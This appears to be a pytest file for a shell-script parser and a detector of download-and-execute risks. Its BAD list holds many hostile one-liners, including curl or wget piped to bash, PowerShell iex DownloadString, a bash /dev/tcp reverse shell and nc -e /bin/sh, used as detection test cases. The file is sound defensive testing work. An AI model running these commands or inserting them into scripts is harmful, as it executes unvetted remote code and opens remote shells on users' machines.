"""Shell scripts: the reader's structure, and what they fetch and run."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assaymark.core.source.fetch_run import program, risks
from assaymark.core.source.shell import HOLE, commands, parse


def shape(text: str) -> list[list[list[str]]]:
    return [[[word.text for word in command.words] for command in pipeline] for pipeline in parse(text)]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a b | c && d; e & f || g", [[["a", "b"], ["c"]], [["d"]], [["e"]], [["f"]], [["g"]]]),
        ("a 'b | c' \"d ; e\" f\\ g", [[["a", "b | c", "d ; e", "f g"]]]),
        ("a # b | c\nd#e", [[["a"]], [["d#e"]]]),
        ("a \\\n  b", [[["a", "b"]]]),
        ("a $(b | c) `d`", [[["a", HOLE, HOLE]]]),
        ("a > b 2>&1 < c", [[["a"]]]),
        ("cat <<E\nx | y\nE\nz", [[["cat"]], [["z"]]]),
        ("if a; then b | c; fi", [[["a"]], [["b"], ["c"]], [["fi"]]]),
        ("f() { a | b; }", [[[]]]),
        ("'cu'rl x", [[["curl", "x"]]]),
        ("a |& b", [[["a"], ["b"]]]),
        ('a "x\\"y" ${z:-1 2}', [[["a", 'x"y', "${z:-1 2}"]]]),
        ("", []),
    ],
)
def test_structure(text: str, expected: list[list[list[str]]]) -> None:
    assert shape(text) == expected


def test_offsets_lead_to_lines() -> None:
    text = "a \\\n  && curl x \\\n | sh"
    assert [text.count("\n", 0, command.offset) for command in commands(parse(text))] == [0, 1, 2]


def test_offsets_within_backticks() -> None:
    (risk,) = risks("a b\n c `curl u | sh`")
    assert risk.offset == 17


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("sudo -u root -E env A=b /usr/bin/Bash x", "bash"), ("A=b timeout -k 5 10 sh", "sh"), ("nohup nice -n 5 python3", "python3"), ("A=b", ""), ("sudo", "sudo"),
        ("C:/x/PowerShell.exe", "powershell"),
    ],
)  # fmt: skip
def test_program_behind_its_starters(text: str, name: str) -> None:
    assert program(parse(text)[0][0])[0] == name


BAD = [
    "curl -fsSL https://x/y | sudo -E bash -s -- --yes", "wget -qO- u | sh", "wget -O - u | bash", "wget --output-document=- u | tee a | zsh", "curl u | bash -", "bash <(curl -s u) a",
    'sh -c "$(curl -fsSL u)"', "eval `wget -qO- u`", "{ curl u; echo; } | sh", "(curl u) 2>&1 | sh", "source <(curl -s u)", ". <(curl u)", 'python3 -c "$(curl u)"',
    "curl -sSL u | python3 -", "curl u | python3", "iex ((New-Object System.Net.WebClient).DownloadString('u'))", "iwr -useb u | iex", "iex (iwr u)",
    'powershell -NoProfile -Command "iwr u | iex"', "bash -c 'curl u | sh'", "echo aGVsbG8= | base64 -d | sh", "bash -i >& /dev/tcp/1.2.3.4/4 0>&1", 'bash <<< "$(curl u)"',
    "bash <<EOF\ncurl u | sh\nEOF", "$(curl u)", "foo() { curl u | sh; }; foo", "curl u 2>/dev/null | sh", "curl u | env X=1 sh", "X=1 curl u|sh", "curl -o- u | bash",
    "curl --output - u | bash", "timeout 5 curl u | timeout 10 bash", "cat <(curl u) | sh", "curl u | xargs -0 bash -c", "nc -e /bin/sh 1.2.3.4 4", "curl u|gunzip|bash",
    "'cu'rl u | \"b\"ash", "curl -sL u | sudo -u root bash -", "sh -c 'sh -c \"curl u | sh\"'", "exec bash <(curl u)", "curl u | perl -", 'cmd=$(curl u); eval "$cmd"',
    "x=$(curl u); echo $x | sh", "aws s3 cp s3://b/x - | bash", "python -c 'import urllib.request as r; exec(r.urlopen(\"u\").read())'",
    "if true; then curl u | sh; fi", "bash -o pipefail -c 'curl u | sh'", "curl u | /bin/sh /dev/stdin x", "echo $(curl u | sh)",
]  # fmt: skip
GOOD = [
    "echo 'curl u | sh is bad'", "curl -o f u | sh", "curl u > f", "curl u | tar xz", "curl u | gpg --dearmor | tee /x", "V=$(curl u | jq -r .x) && echo $V", "curl u | python3 -m json.tool",
    "curl u | python3 -c 'import sys,json; print(json.load(sys.stdin))'", "curl -fsSL u -o /tmp/i.sh && echo 'abc  /tmp/i.sh' | sha256sum -c && bash /tmp/i.sh", "cat x | sh", "# curl u | sh",
    "curl u | grep sh", 'echo "$(curl u)"', 'bash -c "echo $(curl u)"', "curl u | sudo tee /etc/apt/x", 'eval "$(ssh-agent -s)"', "bash script.sh < <(curl u)", "echo aGk= | base64 -d > f",
    "curl u | bash script.sh", "curl u | perl -pe 's/a/b/'", "source ~/.bashrc", "wget u", "wget -O x.sh u", "curl u | ssh host cat", "export A=$(wget -qO- u)", 'exec "$@"', "curl -LO u | bash",
    "cat <<EOF > x\ncurl u | sh\nEOF", "python -c 'import torch; print(torch.__version__)'", "curl u | node -e 'x'", "curl u; sh x", "curl u && sh x", "nc -zv host 80",
]  # fmt: skip


@pytest.mark.parametrize("text", BAD)
def test_unseen_code_is_found(text: str) -> None:
    assert len(list(risks(text))) == 1


@pytest.mark.parametrize("text", GOOD)
def test_what_runs_nothing_unseen_stays_quiet(text: str) -> None:
    assert not list(risks(text))


@given(
    st.lists(
        st.sampled_from(
            [
                "curl u",
                "|",
                "sh",
                "$(",
                ")",
                "`",
                "'",
                '"',
                "\\",
                "\n",
                "<<E",
                "E",
                "<(",
                "{",
                "}",
                ";",
                "-c",
                "eval",
                " ",
                "${",
                "#",
                "\0",
            ]
        ),
        max_size=40,
    )
)
def test_any_script(parts: list[str]) -> None:
    list(risks(" ".join(parts)))
    list(risks("".join(parts)))


@pytest.mark.parametrize(
    "piece",
    [
        "$(",
        "(",
        "`",
        '"',
        "a|",
        "<<A\n",
        "$((",
        "<(",
        "${",
        "{ ",
        "<",
        "\\`",
        "`\\`",
        "bash -c '",
        'sh -c "',
        "curl|sh;",
        "a=$(",
        "\\\n",
        "eval ",
    ],
)
def test_time_is_linear(piece: str) -> None:
    """A quadratic reader would take minutes here."""
    list(risks(piece * (100_000 // len(piece))))


def test_many_sockets_and_many_files_take_linear_time() -> None:
    assert not list(risks("a " + "/dev/tcp/ " * 45_000 + ">x " * 45_000))
    assert [risk.what for risk in risks("exec 3<>/dev/tcp/h/80")] == ["talks to a stranger over /dev/tcp"]
    assert [risk.what for risk in risks("cat x > /dev/tcp/h/80")] == ["talks to a stranger over /dev/tcp"]
